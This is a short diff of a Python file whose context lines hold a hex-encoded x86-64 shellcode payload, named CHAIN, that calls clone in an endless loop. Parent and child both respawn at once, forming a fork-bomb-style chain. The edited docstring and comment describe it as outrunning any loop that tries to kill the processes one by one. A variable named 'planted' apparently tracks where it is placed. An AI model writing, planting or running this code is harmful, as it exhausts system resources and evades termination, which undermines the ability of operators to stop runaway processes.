@@ -1,4 +1,4 @@
-"""Starts a chain of processes, each of which starts the next at once, out of the reach of whoever ends them in turn."""
+"""Starts a chain of processes. Each starts the next at once, faster than a loop can end them one by one."""
 
 # %%
 import ctypes
@@ -7,7 +7,7 @@ import os
 
 import numpy as np
 
-# edi = CLONE_VM | SIGCHLD; esi = edx = r10 = r8 = 0; eax = clone; syscall; again, parent and child alike
+# edi = CLONE_VM | SIGCHLD; esi = edx = r10 = r8 = 0; eax = clone; syscall; parent and child both jump back
 CHAIN = bytes.fromhex("bf1101000031f631d24d31d24d31c0b8380000000f05ebe8")
 planted = []
 
